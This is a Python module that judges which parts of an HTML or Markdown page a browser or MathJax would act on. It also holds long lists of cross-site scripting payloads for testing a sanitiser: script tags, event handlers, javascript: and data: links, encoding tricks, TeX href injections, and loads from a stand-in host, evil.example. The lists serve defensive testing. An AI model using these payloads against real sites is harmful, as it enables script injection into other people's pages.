"""An independent judge of HTML: what in a page a browser, or MathJax in it, would act on.

It reads the page as browsers do, with html5lib, and shares no rule with :mod:`autograder.results.sanitise`.
"""

import re
from collections.abc import Iterator
from typing import Any

from bleach._vendor import html5lib

__all__ = ["HOSTILE", "HOSTILE_MARKDOWN", "IN_DISGUISE", "active_parts"]

NAMES = (
    "a abbr b blockquote br caption center code col colgroup dd del details div dl dt em figcaption figure h1 h2 h3 h4 "
    "h5 h6 hr i ins kbd li mark ol p pre q s samp section small span strike strong sub summary sup table tbody td "
    "tfoot th thead tr tt u ul var"
)
MATHML = "{http://www.w3.org/1998/Math/MathML}"
MATH_NAMES = (
    "math mrow mstyle mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mphantom mpadded "
    "mi mn mo mtext mspace"
)
PASSIVE = frozenset([*NAMES.split(), *(MATHML + name for name in MATH_NAMES.split())])
ADDRESSES = frozenset(("href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset"))
ATTRIBUTES = frozenset(("href", "rel", "id", "class", "colspan", "rowspan", "align", "start", "scope"))
MATH_LOOKS = (
    "accent columnalign display displaystyle fence form linebreak linethickness mathvariant maxsize minsize "
    "movablelimits scriptlevel separator stretchy width"
)
MATH_ATTRIBUTES = frozenset(MATH_LOOKS.split())
TEX = re.compile(
    r"\\(?:href|mmlToken|require|style|class|cssId|html\w+|data|unicode|bbox|def|let|newcommand)(?![A-Za-z])"
)
SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div onmouseover='alert(1)'>x</div>",
    "<b onclick=alert(1)>x</b>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=http://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:http://x/y'>x</a>",
    "<a href=x href=javascript:alert(1)>x</a>",
    "<a href='http://x' onclick=alert(1)>x</a>",
    "<a href=\"http://x'onclick='alert(1)\">x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<table><script>alert(1)</script><tr onclick=alert(1)><td>x</table>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x-tag onclick=alert(1)>x</x-tag>",
    "<a\x00href=javascript:alert(1)>x</a>",
    "<\x00script>alert(1)</script>",
    "\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<b/onclick=alert(1)/x>x",
    "<b title='<script>alert(1)</script>'>x",
    '<b title="a>b" onclick=alert(1)>x</b>',
    "</div></main><script>alert(1)</script>",
    "<td colspan=2 onclick=alert(1)>x</td>",
    '<td colspan="2\' onclick=alert(1)">x</td>',
    r"$\href{javascript:alert(1)}{x}$",
    r"$\h<foo>ref{javascript:alert(1)}{x}$",
    r"$\h<script></script>ref{javascript:alert(1)}{x}$",
    r"$\&#104;ref{javascript:alert(1)}{x}$",
    r"&#36;&#92;href{javascript&colon;alert(1)}{x}&#36;",
    r"\(\require{html}\style{background:url(//evil.example)}{x}\)",
    r'$$\mmlToken{mtext}[href="javascript:alert(1)"]{x}$$',
    r"$\bbox[background:url(//evil.example)]{x}$",
    r"$\def\a{\href}\a{javascript:alert(1)}{x}$",
)
IN_DISGUISE = (
    "<a\x00href=javascript:alert(1)>x</a>",  # some parsers drop the null byte
    "<a href=x href=javascript:alert(1)>x</a>",  # the first of two attributes counts in most parsers
    "<\x00script>alert(1)</script>",
    "<a href=\"http://x'onclick='alert(1)\">x</a>",  # for a cleaner that changes the quotes
    '<td colspan="2\' onclick=alert(1)">x</td>',
    "<td colspan=2 onclick=alert(1)>x</td>",  # a cell without a table is dropped
    r"$\h<foo>ref{javascript:alert(1)}{x}$",  # for a cleaner that drops the tag
    r"$\h<script></script>ref{javascript:alert(1)}{x}$",
    "<body onload=alert(1)>",  # a page has one body; others give theirs their attributes
    "<img/src=x/onerror=alert(1)//",  # needs a ">" from what follows
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
)  # active only beside other text, or once a careless cleaner has been at them

HOSTILE_MARKDOWN = (
    *HOSTILE,
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( \njavascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\N{NO-BREAK SPACE}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1) 'title')",
    "[![x](http://evil.example/x.png)](javascript:alert(1))",
    "![x](http://evil.example/who-looks.png)",
    "![x][1]\n\n[1]: http://evil.example/who-looks.png",
    '![x](x "y" onerror=alert(1))',
    '![x"onerror="alert(1)](x)',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]:\njavascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript&colon;alert(1)",
    "[x]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "*<b\nonclick=alert(1)>x</b>*",
    "<b\n\nonclick=alert(1)>x</b>",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    r"\$\\href{javascript:alert(1)}{x}\$",
    r"\$\&#104;ref{javascript:alert(1)}{x}\$",
    "$a<img src=x onerror=alert(1)>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "\\begin{equation}<img src=x onerror=alert(1)>\\end{equation}",
)


def active_parts(page: str) -> list[str]:
    """What in ``page`` is not passive; empty for harmless HTML."""
    tree = html5lib.parseFragment(page, namespaceHTMLElements=False)
    texts = "".join(_texts(tree))
    return [*_active(tree), *(f"TeX {found}" for found in TEX.findall(texts))]


def _active(tree: Any) -> Iterator[str]:
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        if element.tag not in PASSIVE and element.tag != "DOCUMENT_FRAGMENT":
            yield f"<{element.tag}>"
        known = MATH_ATTRIBUTES if element.tag.startswith(MATHML) else ATTRIBUTES
        for name, value in element.attrib.items():
            if name not in known or (name in ADDRESSES and _scheme(value) not in ("", "http", "https", "mailto")):
                yield f"<{element.tag} {name}={value!r}>"


def _scheme(address: str) -> str:
    """As the URL standard has it: controls and spaces at the ends, tabs and line ends anywhere do not count."""
    seen = re.sub(r"[\t\r\n]", "", address).strip("".join(map(chr, range(33))))
    found = SCHEME.match(seen)
    return found.group(1).lower() if found else ""


def _texts(element: Any) -> Iterator[str]:
    """What MathJax looks at: it skips code, and a tag in between ends a formula."""
    if element.tag not in ("pre", "code"):
        yield element.text or ""
        for child in element:
            yield "\n"
            yield from _texts(child)
            yield f"\n{child.tail or ''}"
